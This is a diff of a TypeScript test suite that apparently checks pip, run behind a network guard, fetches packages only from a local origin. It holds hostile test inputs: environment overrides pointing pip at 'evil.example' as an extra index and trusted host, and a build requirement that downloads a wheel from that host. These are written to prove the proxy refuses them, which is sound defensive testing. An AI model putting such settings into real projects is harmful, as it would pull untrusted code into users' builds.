@@ -2,23 +2,12 @@ import assert from 'node:assert/strict'
 import { createHash } from 'node:crypto'
 import { globSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { after, before } from 'node:test'
-import { clientTest, outsideRequests, wantedClients, type Client } from '../support/clients.ts'
-import { assertSuccess, startScene, terminal, workFolder, type Scene } from '../clients/scene.ts'
+import { clientTest, wantedClients, type Client } from '../support/clients.ts'
+import { assertSuccess, terminal, workFolder } from '../clients/scene.ts'
 import type { Distribution } from '../support/python-projects.ts'
-import { runGuarded, startStandIn, type StandIn } from './stand-in.ts'
+import { guardedScene, runGuarded } from './guarded.ts'
 
-let scene: Scene
-let standIn: StandIn
-before(async () => {
-  scene = await startScene()
-  standIn = await startStandIn(scene.server.url)
-})
-after(async () => {
-  await standIn?.[Symbol.asyncDispose]()
-  await scene?.[Symbol.asyncDispose]()
-  assert.deepEqual(outsideRequests(), [], 'pip asked somebody past the guard')
-})
+const { scene, guarded: guardedBy } = guardedScene('pip')
 
 const HOSTILE = {
   PIP_EXTRA_INDEX_URL: 'http://127.0.0.1:9/simple/',
@@ -28,7 +17,7 @@ const HOSTILE = {
   PIP_TRUSTED_HOST: 'evil.example',
 }
 const locks = (client: Client): boolean => client.generation === 'newest'
-const origin = () => scene.server.url
+const origin = () => scene().server.url
 const fileUrl = (file: Distribution) => `${origin()}/files/${file.name}/${file.sha256}/${file.filename}`
 
 const assertTarget = (folder: string, files: readonly Distribution[]): void =>
@@ -40,22 +29,25 @@ const assertTarget = (folder: string, files: readonly Distribution[]): void =>
 for (const wanted of wantedClients('pip')) {
   clientTest(wanted, 'installs from the guard alone, whatever the environment says', async (pip) => {
     await using work = await workFolder()
-    const outcome = await runGuarded(pip, standIn, ['install', '--target', 'site', 'acme-app'], {
+    const outcome = await runGuarded(pip, guardedBy(), ['install', '--target', 'site', 'acme-app'], {
       cwd: work.path,
       env: HOSTILE,
     })
     assertSuccess(outcome)
-    assertTarget(work.path, [scene.app, scene.alpha, scene.beta])
+    assertTarget(work.path, [scene().app, scene().alpha, scene().beta])
   })
 
   clientTest(wanted, 'builds an sdist whose build backend comes through the guard', async (pip) => {
     await using work = await workFolder()
-    const before = standIn.asked.length
+    const before = guardedBy().asked.length
     assertSuccess(
-      await runGuarded(pip, standIn, ['install', '--target', 'site', 'acme-native'], { cwd: work.path, env: HOSTILE }),
+      await runGuarded(pip, guardedBy(), ['install', '--target', 'site', 'acme-native'], {
+        cwd: work.path,
+        env: HOSTILE,
+      }),
     )
-    assertTarget(work.path, [scene.native, scene.alpha])
-    assert.ok(standIn.asked.slice(before).includes('GET /simple/flit-core/'), standIn.asked.join('\n'))
+    assertTarget(work.path, [scene().native, scene().alpha])
+    assert.ok(guardedBy().asked.slice(before).includes('GET /simple/flit-core/'), guardedBy().asked.join('\n'))
   })
 
   clientTest(wanted, 'runs into the proxy on its way to another host', async (pip) => {
@@ -64,9 +56,9 @@ for (const wanted of wantedClients('pip')) {
       join(work.path, 'pyproject.toml'),
       '[build-system]\nrequires = ["thing @ https://evil.example/thing-1.0-py3-none-any.whl"]\nbuild-backend = "thing"\n',
     )
-    const outcome = await runGuarded(pip, standIn, ['install', '--target', 'site', '.'], { cwd: work.path })
+    const outcome = await runGuarded(pip, guardedBy(), ['install', '--target', 'site', '.'], { cwd: work.path })
     assert.notEqual(outcome.code, 0)
-    assert.ok(standIn.refused.includes('CONNECT evil.example:443'), terminal(outcome))
+    assert.ok(guardedBy().outside().includes('evil.example:443'), terminal(outcome))
   })
 
   clientTest(wanted, 'reads requirements files inside one another, with files and index of the origin', async (pip) => {
@@ -74,18 +66,18 @@ for (const wanted of wantedClients('pip')) {
     writeFileSync(join(work.path, 'outer file.txt'), '-r deeper.txt\nalpha-dep==1.0 \\\n  # a comment\n')
     writeFileSync(
       join(work.path, 'deeper.txt'),
-      `# coding: latin-1\n--index-url ${origin()}/simple/\nbeta-dep @ ${fileUrl(scene.beta)} ; python_version > "3"\n`,
+      `# coding: latin-1\n--index-url ${origin()}/simple/\nbeta-dep @ ${fileUrl(scene().beta)} ; python_version > "3"\n`,
     )
-    const outcome = await runGuarded(pip, standIn, ['install', '--target', 'site', '-r', 'outer file.txt'], {
+    const outcome = await runGuarded(pip, guardedBy(), ['install', '--target', 'site', '-r', 'outer file.txt'], {
       cwd: work.path,
       env: HOSTILE,
     })
     assertSuccess(outcome)
-    assertTarget(work.path, [scene.alpha, scene.beta])
+    assertTarget(work.path, [scene().alpha, scene().beta])
     assert.deepEqual(readdirSync(work.path).toSorted(), ['deeper.txt', 'outer file.txt', 'site'])
     const info = join(work.path, 'site/beta_dep-2.0.dist-info')
     const record = readFileSync(join(info, 'direct_url.json'))
-    assert.equal((JSON.parse(record.toString()) as { url: string }).url, fileUrl(scene.beta))
+    assert.equal((JSON.parse(record.toString()) as { url: string }).url, fileUrl(scene().beta))
     const digest = createHash('sha256').update(record).digest('base64url')
     assert.match(
       readFileSync(join(info, 'RECORD'), 'utf8'),
@@ -109,25 +101,25 @@ for (const wanted of wantedClients('pip')) {
     const index = ['--index-url', `${origin()}/simple/`]
     assertSuccess(await pip.run(['lock', ...index, ...projects], { cwd: bare.path }))
     const expected = readFileSync(join(bare.path, 'pylock.toml'), 'utf8')
-    assert.ok(expected.includes(fileUrl(scene.app)), expected)
+    assert.ok(expected.includes(fileUrl(scene().app)), expected)
 
-    const locked = await runGuarded(pip, standIn, ['lock', ...projects], { cwd: work.path })
+    const locked = await runGuarded(pip, guardedBy(), ['lock', ...projects], { cwd: work.path })
     assertSuccess(locked)
     assert.deepEqual(locked.mapped, [join(work.path, 'pylock.toml')])
     assert.equal(readFileSync(join(work.path, 'pylock.toml'), 'utf8'), expected)
     assert.deepEqual(readdirSync(work.path).toSorted(), ['local', 'pylock.toml'])
 
-    const printed = await runGuarded(pip, standIn, ['lock', '-qo-', ...projects], { cwd: work.path })
+    const printed = await runGuarded(pip, guardedBy(), ['lock', '-qo-', ...projects], { cwd: work.path })
     assert.equal(printed.stdout, expected)
 
     // pip installs no folder from a lock: it has no hash.
-    assertSuccess(await runGuarded(pip, standIn, ['lock', '-o', 'pylock.app.toml', 'acme-app'], { cwd: work.path }))
+    assertSuccess(await runGuarded(pip, guardedBy(), ['lock', '-o', 'pylock.app.toml', 'acme-app'], { cwd: work.path }))
     assertSuccess(
-      await runGuarded(pip, standIn, ['install', '--target', 'site', '-r', 'pylock.app.toml'], { cwd: work.path }),
+      await runGuarded(pip, guardedBy(), ['install', '--target', 'site', '-r', 'pylock.app.toml'], { cwd: work.path }),
     )
-    assertTarget(work.path, [scene.app, scene.alpha, scene.beta])
-    const requested = standIn.asked.filter(
-      (line) => line === `GET /files/acme-app/${scene.app.sha256}/${scene.app.filename}`,
+    assertTarget(work.path, [scene().app, scene().alpha, scene().beta])
+    const requested = guardedBy().asked.filter(
+      (line) => line === `GET /files/acme-app/${scene().app.sha256}/${scene().app.filename}`,
     )
     assert.ok(requested.length > 0)
   })
@@ -136,7 +128,7 @@ for (const wanted of wantedClients('pip')) {
     if (!locks(pip)) return t.skip('this pip has no `lock`')
     await using work = await workFolder()
     writeFileSync(join(work.path, 'pylock.toml'), 'old')
-    const outcome = await runGuarded(pip, standIn, ['lock', 'nowhere-to-be-found'], { cwd: work.path })
+    const outcome = await runGuarded(pip, guardedBy(), ['lock', 'nowhere-to-be-found'], { cwd: work.path })
     assert.notEqual(outcome.code, 0)
     assert.deepEqual(outcome.mapped, [])
     assert.deepEqual(readdirSync(work.path), ['pylock.toml'])
@@ -146,16 +138,16 @@ for (const wanted of wantedClients('pip')) {
   clientTest(wanted, 'reports with URLs of the origin', async (pip) => {
     await using work = await workFolder()
     const args = ['install', '--dry-run', '--ignore-installed', '--quiet', '--no-deps', 'acme-app']
-    const printed = await runGuarded(pip, standIn, [...args, '--report', '-'], { cwd: work.path })
+    const printed = await runGuarded(pip, guardedBy(), [...args, '--report', '-'], { cwd: work.path })
     assertSuccess(printed)
-    const written = await runGuarded(pip, standIn, [...args, '--report=report.json'], { cwd: work.path })
+    const written = await runGuarded(pip, guardedBy(), [...args, '--report=report.json'], { cwd: work.path })
     assertSuccess(written)
     assert.deepEqual(written.mapped, [join(work.path, 'report.json')])
     for (const text of [printed.stdout, readFileSync(join(work.path, 'report.json'), 'utf8')]) {
       const report = JSON.parse(text) as { install: readonly { download_info: { url: string } }[] }
       assert.deepEqual(
         report.install.map(({ download_info: { url } }) => url),
-        [fileUrl(scene.app)],
+        [fileUrl(scene().app)],
       )
     }
   })
